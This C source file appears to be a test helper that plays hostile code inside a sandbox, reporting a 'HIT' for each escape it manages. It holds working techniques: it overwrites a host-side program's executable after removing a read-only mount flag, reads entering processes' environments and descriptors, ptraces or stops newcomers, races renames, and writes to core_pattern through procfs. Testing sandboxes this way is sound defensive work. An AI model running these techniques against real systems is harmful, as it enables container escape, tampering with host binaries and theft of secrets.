/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What hostile code in a sandbox does to whoever sets it up or joins it. Static, so that it runs in any root.
 * Prints a line "HIT what" for each thing that it got and should not have.
 *
 *   attack hold SECONDS            hold the program of each process that comes, if it isn't of our root; take
 *                                  its mount's read-only away and write to it, once nobody runs it any more;
 *                                  at last "held N"
 *   attack watch SECONDS           each process that comes into this pid namespace: its program,
 *                                  descriptors and environment; then once more while it is traced
 *   attack look SECONDS            the same without tracing
 *   attack stop SECONDS            SIGSTOP for each process that comes
 *   attack keep SECONDS            trace each process that comes and never take note of its end
 *   attack swap A B SECONDS        exchange the two names again and again
 *   attack fds                     "HIT" for each descriptor from 3 on
 *   attack core PATTERN            write to core_pattern by every way to a procfs there is
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* ---- who comes in */

/*
 * What a magic link leads to, held so that it stays the same while we look: a descriptor, its name and what
 * it is; or -1, when there is nothing (any more).
 */
static int hold(const char *link, char to[300], struct stat *st)
{
	char path[64];
	int fd = open(link, O_PATH | O_CLOEXEC);

	if (fd < 0)
		return -1;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	memset(to, 0, 300);
	if (fstat(fd, st) == 0 && readlink(path, to, 299) > 0)
		return fd;
	close(fd);
	return -1;
}

/* Whether what is held is what its name leads us to: then it's of our own root. */
static bool is_ours(const struct stat *theirs, const char *to)
{
	struct stat ours;

	return stat(to, &ours) == 0 && theirs->st_dev == ours.st_dev && theirs->st_ino == ours.st_ino;
}

static bool own_program(int pid)
{
	char path[64], to[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = hold(path, to, &st);
	if (fd >= 0)
		close(fd);
	return fd >= 0 && is_ours(&st, to);
}

static void look_at_fds(int pid, bool stopped)
{
	char dir[64];
	struct dirent *e;
	DIR *d;

	snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
	d = opendir(dir);
	while (d && (e = readdir(d))) {
		char path[400], to[300];
		struct stat st;
		int fd;

		if (atoi(e->d_name) < 3)
			continue;
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		fd = hold(path, to, &st);
		if (fd < 0)
			continue;
		close(fd);
		if ((!S_ISDIR(st.st_mode) && !S_ISREG(st.st_mode)) || !strncmp(to, "/memfd:", 7) ||
		    is_ours(&st, to) || own_program(pid))
			continue;
		printf("HIT fd %s -> %s%s\n", e->d_name, to, stopped ? " while it is stopped" : "");
	}
	if (d)
		closedir(d);
}

static void look_at_environ(int pid)
{
	char path[64], text[8192];
	ssize_t n = -1;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY);
	if (fd >= 0) {
		n = read(fd, text, sizeof text);
		close(fd);
	}
	if (n > 0 && !own_program(pid) && memmem(text, (size_t)n, "SBSECRET", 8))
		printf("HIT %zd bytes of the caller's environment\n", n);
}

/* The host's program is one that can be opened and is neither of our root nor a file without a name. */
static void look_at_exe(int pid)
{
	char path[64], to[300] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (readlink(path, to, sizeof to - 1) < 0 || !strncmp(to, "/memfd:", 7) || own_program(pid))
		return;
	fd = open(path, O_RDONLY);
	if (fd < 0 || own_program(pid))
		return;
	printf("HIT program %s\n", to);
	close(fd);
}

static void look_at(int pid, bool stopped)
{
	look_at_fds(pid, stopped);
	look_at_environ(pid);
	look_at_exe(pid);
}

static void trace(int pid)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		return;
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		look_at(pid, true);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

enum { WATCH, LOOK, STOP, KEEP };

/* Calls for each process that was not there when it began. */
static int newcomers(int what, double seconds)
{
	static char known[1 << 22];
	double end = now() + seconds;
	bool first = true;
	int met = 0;

	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);

			if (pid <= 1 || pid == getpid() || pid >= (int)sizeof known || known[pid] > 20)
				continue;
			met += !known[pid] && !first;
			known[pid]++;
			if (first)
				known[pid] = 100;
			else if (what == STOP)
				kill(pid, SIGSTOP);
			else if (what == KEEP)
				ptrace(PTRACE_SEIZE, pid, 0, 0);
			else
				look_at(pid, false);
			if (!first && what == WATCH)
				trace(pid);
		}
		if (d)
			closedir(d);
		if (first) {
			puts("ready");
			fflush(stdout);
		}
		first = false;
	}
	printf("met %d\n", met);
	return 0;
}

/* ---- the program of who comes in */

enum { MAX_HELD = 64 };

static struct {
	int fd;
	struct stat st;
	char name[300];
	bool written;
} held[MAX_HELD];
static int n_held;

static bool is_held(const struct stat *st)
{
	for (int i = 0; i < n_held; i++)
		if (held[i].st.st_dev == st->st_dev && held[i].st.st_ino == st->st_ino)
			return true;
	return false;
}

static void hold_program(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if (n_held == MAX_HELD)
		return;
	fd = hold(path, held[n_held].name, &held[n_held].st);
	if (fd < 0)
		return;
	if (is_held(&held[n_held].st) || is_ours(&held[n_held].st, held[n_held].name))
		close(fd);
	else
		held[n_held++].fd = fd;
}

/* Text is busy as long as somebody runs it; a mount that is only read-only may be made writable. */
static void overwrite(int i)
{
	struct mount_attr clear = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];
	int w;

	snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
	syscall(SYS_mount_setattr, held[i].fd, "", AT_EMPTY_PATH, &clear, sizeof clear);
	w = open(path, O_WRONLY);
	if (w < 0)
		return;
	if (write(w, "#!overwritten", 13) == 13) {
		printf("HIT overwritten: %s\n", held[i].name);
		held[i].written = true;
	}
	close(w);
}

static int hold_programs(double seconds)
{
	double end = now() + seconds;

	puts("ready");
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (atoi(e->d_name) > 0)
				hold_program(atoi(e->d_name));
		if (d)
			closedir(d);
		for (int i = 0; i < n_held; i++)
			if (!held[i].written)
				overwrite(i);
	}
	printf("held %d\n", n_held);
	return 0;
}

/* ---- others */

static int swap(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;

	while (now() < end)
		for (int i = 0; i < 100; i++)
			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
	return 0;
}

static int fds(void)
{
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			printf("HIT fd %d\n", fd);
	return 0;
}

static int core(const char *pattern)
{
	static const char *const ways[] = {
		"/proc/sys/kernel/core_pattern",
		"/proc/self/root/proc/sys/kernel/core_pattern",
		"/proc/1/root/proc/sys/kernel/core_pattern",
		"/dev/console",
		"/dev/null",
		"/dev/ptmx",
	};
	int fd;

	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		struct stat st;

		fd = open(ways[i], O_WRONLY | O_NOCTTY | O_NONBLOCK);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && write(fd, pattern, strlen(pattern)) > 0)
			printf("HIT wrote to %s\n", ways[i]);
		close(fd);
	}
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(what, "hold") && argc > 2)
		return hold_programs(atof(argv[2]));
	if (!strcmp(what, "watch") && argc > 2)
		return newcomers(WATCH, atof(argv[2]));
	if (!strcmp(what, "look") && argc > 2)
		return newcomers(LOOK, atof(argv[2]));
	if (!strcmp(what, "stop") && argc > 2)
		return newcomers(STOP, atof(argv[2]));
	if (!strcmp(what, "keep") && argc > 2)
		return newcomers(KEEP, atof(argv[2]));
	if (!strcmp(what, "swap") && argc > 4)
		return swap(argv[2], argv[3], atof(argv[4]));
	if (!strcmp(what, "fds"))
		return fds();
	if (!strcmp(what, "core") && argc > 2)
		return core(argv[2]);
	fprintf(stderr, "attack: what?\n");
	return 2;
}
